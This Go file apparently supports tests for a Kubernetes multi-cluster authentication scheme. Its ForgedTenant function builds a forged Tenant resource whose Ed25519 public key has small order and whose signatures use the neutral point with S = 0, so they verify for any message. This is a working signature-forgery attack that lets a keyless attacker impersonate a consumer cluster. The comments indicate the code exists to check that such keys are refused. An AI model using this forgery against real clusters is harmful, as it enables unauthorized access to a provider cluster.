package weakkeys

import (
	"crypto/ed25519"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"strconv"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	authv1beta1 "github.com/kubepact/kubepact/apis/authentication/v1beta1"
	"github.com/kubepact/kubepact/clusterid"
	"github.com/kubepact/kubepact/csr"
	"github.com/kubepact/kubepact/nonce"
	"github.com/kubepact/kubepact/tenant"
)

// ForgedTenant returns the Tenant an attacker holding no key sends to
// become consumerID on providerID: its public key is pub (a key of small
// order), and its nonce signature, transcript signature and CSR
// self-signature are all R = the neutral point, S = 0. The nonce n need
// not be the one the provider issued: with the neutral point every
// signature verifies whatever was signed, so n is not even used.
func ForgedTenant(consumerID, providerID string, pub []byte, _ nonce.Nonce, expiry time.Time) (*authv1beta1.Tenant, error) {
	forger := NewSigner(pub)
	der, err := x509.MarshalPKIXPublicKey(ed25519.PublicKey(pub))
	if err != nil {
		return nil, err
	}
	tmpl := &x509.CertificateRequest{Subject: csr.ControlPlaneSubject(consumerID)}
	req, err := x509.CreateCertificateRequest(nil, tmpl, forger)
	if err != nil {
		// x509 checks the signature it made; for a point of order 2 to 8
		// the forgery verifies for a share of messages only, and this CSR
		// is not among them. A CSR for a throwaway key stands in: the
		// public key is what must be refused.
		_, throwaway, gerr := ed25519.GenerateKey(nil)
		if gerr != nil {
			return nil, gerr
		}
		if req, err = x509.CreateCertificateRequest(nil, tmpl, throwaway); err != nil {
			return nil, err
		}
	}
	sig, _ := forger.Sign(nil, nil, nil)
	t := &authv1beta1.Tenant{
		TypeMeta: metav1.TypeMeta{APIVersion: authv1beta1.SchemeGroupVersion.String(), Kind: authv1beta1.TenantKind},
		ObjectMeta: metav1.ObjectMeta{
			Name:      consumerID,
			Namespace: clusterid.TenantNamespace(consumerID),
			Labels:    map[string]string{clusterid.Label: consumerID},
		},
		Spec: authv1beta1.TenantSpec{
			ClusterID:       consumerID,
			AuthzPolicy:     authv1beta1.KeysExchange,
			PublicKey:       pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}),
			CSR:             pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: req}),
			Signature:       sig,
			TenantCondition: authv1beta1.TenantConditionActive,
		},
	}
	// The forged signature is the same whatever the transcript says.
	t.Annotations = map[string]string{
		tenant.TranscriptSignatureAnnotation: base64.StdEncoding.EncodeToString(sig),
		tenant.TranscriptProviderAnnotation:  providerID,
		tenant.TranscriptExpiryAnnotation:    strconv.FormatInt(expiry.Truncate(time.Second).Unix(), 10),
		tenant.TranscriptVersionAnnotation:   strconv.Itoa(tenant.TranscriptVersion),
	}
	return t, nil
}

// RawForm returns t with its public key in the raw 32-byte form that Liqo
// consumers before v1.0.2 send.
func RawForm(t *authv1beta1.Tenant, pub []byte) *authv1beta1.Tenant {
	t = t.DeepCopy()
	t.Spec.PublicKey = append([]byte(nil), pub...)
	return t
}
